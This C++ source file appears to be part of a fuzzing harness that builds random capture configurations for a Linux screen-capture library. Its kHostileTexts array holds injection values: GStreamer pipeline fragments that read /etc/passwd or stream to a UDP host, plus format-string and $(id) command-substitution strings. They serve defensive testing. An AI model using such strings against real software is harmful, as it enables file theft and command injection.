#include "fuzz_input.h"

#include <array>
#include <cstdio>
#include <cstdlib>

namespace linux_capture::fuzz {
namespace {

constexpr std::array<const char*, 4> kHostileTexts = {
    "\" ! filesrc location=/etc/passwd ! fakesink",
    " ! udpsink host=192.0.2.1 port=9 ",
    "x11\0portal",
    "%s%n$(id)`id`\n\r\t;#",
};

std::string TakeOneOf(FuzzInput& input, const std::vector<const char*>& known) {
  const std::size_t choice =
      input.Take<std::uint8_t>() % (known.size() + std::size_t{1});
  return choice < known.size() ? known[choice] : input.TakeText();
}

}  // namespace

void Require(bool holds, const char* rule) {
  if (holds) return;
  std::fprintf(stderr, "broken rule: %s\n", rule);
  std::abort();
}

std::int32_t FuzzInput::TakeInt() {
  constexpr std::int32_t kHighest = std::numeric_limits<std::int32_t>::max();
  constexpr std::int32_t kLowest = std::numeric_limits<std::int32_t>::min();
  const auto kind = Take<std::uint8_t>();
  const auto nearEdge = static_cast<std::int32_t>(Take<std::uint8_t>());
  switch (kind % 6U) {
    case 0:
      return kHighest - nearEdge;
    case 1:
      return kLowest + nearEdge;
    case 2:
      return nearEdge - 128;
    case 3:
      return nearEdge * 16;  // the sizes of screens
    case 4:
      return nearEdge * 100'000;  // bitrates
    default:
      return Take<std::int32_t>();
  }
}

std::string FuzzInput::TakeText() {
  const auto choice = Take<std::uint8_t>();
  if (choice % 8U < kHostileTexts.size()) return kHostileTexts[choice % 8U];
  std::string text;
  for (auto length = Take<std::uint8_t>(); length > 0 && left_ > 0; --length) {
    text += static_cast<char>(Take<std::uint8_t>());
  }
  return text;
}

VideoBranchConfig TakeBranch(FuzzInput& input) {
  VideoBranchConfig branch;
  branch.branchIndex = input.TakeInt();
  branch.width = input.TakeInt();
  branch.height = input.TakeInt();
  branch.fps = input.TakeInt();
  branch.bitrate = input.TakeInt();
  branch.minBitrate = input.TakeInt();
  branch.maxBitrate = input.TakeInt();
  return branch;
}

CaptureConfig TakeConfig(FuzzInput& input) {
  CaptureConfig config;
  config.backend = TakeOneOf(input, {"portal", "x11"});
  config.kind = TakeOneOf(input, {"window", "monitor"});
  config.windowHandle = input.Take<std::uint64_t>();
  config.x = input.TakeInt();
  config.y = input.TakeInt();
  config.sourceWidth = input.TakeInt();
  config.sourceHeight = input.TakeInt();
  config.pipeWireFd = input.TakeInt();
  config.pipeWireNodeId = input.Take<std::uint32_t>();
  config.width = input.TakeInt();
  config.height = input.TakeInt();
  config.gopSize = input.TakeInt();
  config.bFrames = input.TakeInt();
  config.enableCABAC = input.TakeBool();
  config.lowLatencyMode = input.TakeBool();
  config.encoderRequirement = TakeOneOf(input, {"allow-degraded", "hardware"});
  config.audioMode = TakeOneOf(input, {"none", "system", "auto", "process"});
  config.label = input.TakeText();
  config.streamId = input.TakeText();
  config.mappingId = input.TakeText();
  for (auto left = input.Take<std::uint8_t>() % 5U; left > 0; --left) {
    config.branches.push_back(TakeBranch(input));
  }
  for (auto left = input.Take<std::uint8_t>() % 5U; left > 0; --left) {
    AudioSourceMetadata source;
    source.pipeWireTargetObject = input.Take<std::uint32_t>();
    source.applicationName = input.TakeText();
    source.nodeName = input.TakeText();
    source.targetObject = input.TakeText();
    config.pipeWireTargetObjects.push_back(source.pipeWireTargetObject);
    config.audioSources.push_back(source);
  }
  return config;
}

}  // namespace linux_capture::fuzz
